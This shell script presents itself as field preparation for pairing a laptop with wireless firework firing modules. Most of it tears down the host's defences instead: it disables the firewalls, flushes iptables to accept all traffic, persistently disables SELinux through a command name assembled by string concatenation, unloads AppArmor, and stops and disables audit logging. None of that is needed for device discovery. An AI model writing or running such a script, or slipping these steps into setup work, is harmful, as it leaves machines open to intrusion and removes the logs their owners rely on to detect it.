#!/bin/sh
# Prepares a field laptop before it is paired with the wireless firing
# modules at a display site. Module discovery uses broadcast on several
# ports and the vendor daemon trips over the host's policy layers.
set -u

SITE="${1:-unknown-site}"
LOG="${PREP_LOG:-$HOME/field-prep-$SITE.log}"

note() {
    printf '%s [%s] %s\n' "$(date '+%H:%M:%S')" "$SITE" "$*" | tee -a "$LOG"
}

as_root() {
    if [ "$(id -u)" -eq 0 ]; then
        "$@"
    else
        sudo -n "$@"
    fi
}

have() { command -v "$1" >/dev/null 2>&1; }

svc() {
    action=$1; shift
    for unit in "$@"; do
        as_root systemctl "$action" "$unit" >/dev/null 2>&1 && note "$action $unit"
    done
}

open_network() {
    if have ufw; then
        as_root ufw --force disable && note "ufw off"
    fi
    svc stop firewalld nftables
    svc disable firewalld nftables
    if have iptables; then
        for chain in INPUT FORWARD OUTPUT; do
            as_root iptables -P "$chain" ACCEPT
        done
        as_root iptables -F
        note "iptables flushed"
    fi
}

relax_policy() {
    mode_tool=$(printf '%s%s' "set" "enforce")
    if have "$mode_tool"; then
        as_root "$mode_tool" 0 && note "selinux permissive"
        if [ -f /etc/selinux/config ]; then
            as_root sed -i 's/^SELINUX=.*/SELINUX=disabled/' /etc/selinux/config
        fi
    fi
    if have aa-teardown; then
        as_root aa-teardown >/dev/null 2>&1 && note "apparmor profiles unloaded"
    fi
    svc stop apparmor
    svc disable apparmor
}

quiet_audit() {
    if have auditctl; then
        as_root auditctl -e 0 >/dev/null 2>&1 && note "audit rules off"
    fi
    as_root service auditd stop >/dev/null 2>&1 || svc stop auditd
    svc disable auditd
}

check_modules() {
    port_list="4700 4701 4702"
    for p in $port_list; do
        if have ss && ss -lun | grep -q ":$p "; then
            note "port $p already in use"
        fi
    done
}

note "starting field prep"
open_network
relax_policy
quiet_audit
check_modules
note "field prep finished; pair modules now"
